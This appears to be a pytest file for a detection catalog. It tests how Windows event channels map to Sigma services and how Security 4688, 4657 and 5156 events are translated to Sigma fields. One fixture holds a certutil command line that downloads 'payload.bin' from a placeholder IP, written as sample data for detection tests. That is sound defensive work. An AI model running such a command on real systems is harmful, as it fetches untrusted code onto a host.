"""The one model of log sources (catalog.core.taxonomy), without a database: which service a channel is, the
renames a mapped event is read with, and what a mapped event cannot decide.

The pages and matching that read it are tested in tests/browse/test_event_taxonomy.py and
tests/matching/test_mapped_events.py.
"""

import pytest

from catalog.core import taxonomy
from catalog.core.sigma.evaluate import compile_rule, matches
from catalog.core.sigma.values import EventView
from catalog.core.taxonomy import mapping
from catalog.core.taxonomy.events import events_for

CERTUTIL_ON_4688 = {
    "Channel": "Security",
    "EventID": 4688,
    "SubjectUserName": "alice",
    "SubjectLogonId": "0x3e7",
    "ProcessId": "0x1f4",  # the creator's id: 4688's own ProcessId, not the Sigma field ProcessId
    "NewProcessId": "0x2a0",
    "NewProcessName": "C:\\Windows\\System32\\certutil.exe",
    "ParentProcessName": "C:\\Windows\\explorer.exe",
    "CommandLine": "certutil.exe -urlcache -split -f http://203.0.113.7/payload.bin C:\\Users\\Public\\p.bin",
}


def source_of(category: str, token: str) -> taxonomy.Source:
    return next(s for s in taxonomy.category_sources()[category] if s.token == token)


def selecting() -> dict[str, set[str]]:
    """Channel -> the services whose channel it is (pySigma's table and the catalog's additions)."""
    found = {}
    for service, channels in taxonomy.service_channels().items():
        for channel in channels:
            found.setdefault(channel, set()).add(service)
    return found


@pytest.mark.parametrize(("channel", "services"), sorted(selecting().items()))
def test_every_channel_of_the_taxonomy_selects_the_services_it_belongs_to(channel, services):
    """Each channel is read back as exactly the services that select it, in any case and spelling: matching runs
    those services' rules on its events (catalog.matching.compiled), and infers the one the catalog names."""
    for spelled in (channel, channel.upper(), f"WinEventLog:{channel}"):  # a prefixed spelling still finds them
        assert set(taxonomy.services_of(spelled)) == services, spelled
    shown = taxonomy.service_of(channel)
    assert shown in services and (shown in taxonomy.windows_services())


def test_channels_cover_every_service_a_rule_can_name():
    services = taxonomy.windows_services()
    assert set(taxonomy.service_channels()) == set(services)
    assert len(services) >= 40 and all(services.values())
    # a service only pySigma lists gets its channel's name, hence event coverage for its rules
    assert events_for("windows", "", "dhcp", [])[0].provider == "DHCP-Server/Operational"


def test_an_event_naming_only_its_provider_selects_the_services_of_its_channels():
    providers = {}
    for channel, services in selecting().items():
        providers.setdefault(channel.split("/")[0], set()).update(services)
    assert len(providers) >= 30
    for provider, services in providers.items():
        assert set(taxonomy.services_of("", provider)) == services, provider
    assert taxonomy.service_of("", "Microsoft-Windows-Security-Auditing") == "security"


def test_bits_client_and_other_channels_whose_names_are_not_their_display_names():
    # "BITS Client" squeezed is "bitsclient", which the channel does not contain: its 7 rules never ran.
    assert taxonomy.service_of("Microsoft-Windows-Bits-Client/Operational") == "bits-client"
    assert taxonomy.service_of("Microsoft-Windows-SmbClient/Security") == "smbclient-security"  # not "security"
    assert taxonomy.service_of("Microsoft-Windows-PrintService/Admin") == "printservice-admin"
    assert taxonomy.service_of("Microsoft-Windows-Security-Mitigations/Kernel Mode") == "security-mitigations"
    assert taxonomy.service_of("Microsoft-Windows-Kernel-General/Operational") is None
    assert taxonomy.services_of("Microsoft-Windows-LDAP-Client/Debug") == ("ldap", "ldap_debug")  # the catalog's first


def test_the_renames_come_from_the_pipelines_and_hide_the_events_own_namesakes():
    source = source_of("process_creation", "security:4688")
    renames = dict(source.renames)
    # The spec's field usage: NewProcessName is Image, ParentProcessName ParentImage, SubjectLogonId LogonId.
    assert renames["Image"] == "NewProcessName" and renames["ParentImage"] == "ParentProcessName"
    assert renames["LogonId"] == "SubjectLogonId" and renames["ProcessId"] == "NewProcessId"
    seen = mapping.translate(source, CERTUTIL_ON_4688)
    assert seen["Image"] == CERTUTIL_ON_4688["NewProcessName"] and seen["LogonId"] == "0x3e7"
    assert seen["ProcessId"] == "0x2a0"  # the new process's id, not the creator's
    assert dict(source_of("registry_set", "security:4657").renames)["TargetObject"] == "ObjectName"
    assert dict(source_of("network_connection", "security:5156").renames)["DestinationIp"] == "DestAddress"
    assert dict(source_of("file_event", "security:4663").renames)["TargetFilename"] == "ObjectName"


def test_a_5156_reads_its_coded_values_as_sysmon_writes_them():
    source = source_of("network_connection", "security:5156")
    seen = mapping.translate(source, {"EventID": 5156, "Direction": "%%14593", "Protocol": "6", "DestPort": "443"})
    assert (seen["Initiated"], seen["Protocol"], seen["DestinationPort"]) == ("true", "tcp", "443")
    assert mapping.translate(source, {"Direction": "Inbound"})["Initiated"] == "false"


def test_a_field_the_mapped_event_does_not_log_is_undecidable_not_absent():
    """`selection and not filter` on OriginalFileName fires on a Sysmon 1 lacking the field, but decides
    nothing on a 4688, which never logs it."""
    rule = compile_rule(
        [{"op": "and", "args": [{"ref": "selection"}, {"op": "not", "args": [{"ref": "filter"}]}]}],
        [
            ("selection", 0, "Image", ["endswith"], ["\\certutil.exe"]),
            ("filter", 0, "OriginalFileName", [], ["CertUtil.exe"]),
        ],
    )
    sysmon_1 = {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "Image": "C:\\x\\certutil.exe"}
    assert matches(rule, sysmon_1)
    source = source_of("process_creation", "security:4688")
    seen = EventView(mapping.translate(source, CERTUTIL_ON_4688), carried=mapping.carried(source))
    assert not matches(rule, seen)
    assert matches(rule, EventView(mapping.translate(source, CERTUTIL_ON_4688)))  # read as if it logged every field


@pytest.mark.parametrize(
    ("operation", "categories"),
    [
        ("Existing registry value modified", {"registry_set", "registry_event"}),
        ("%%1904", {"registry_add", "registry_event"}),  # the raw event data's message id
        ("Registry value deleted", {"registry_delete"}),
        ("", set()),
    ],
)
def test_4657_backs_the_registry_categories_its_operation_type_names(operation, categories):
    event = {"Channel": "Security", "EventID": 4657, "OperationType": operation, "ObjectName": "\\REGISTRY\\x"}
    assert {s.category for s in mapping.candidates("security", 4657) if mapping.backs(s, event)} == categories
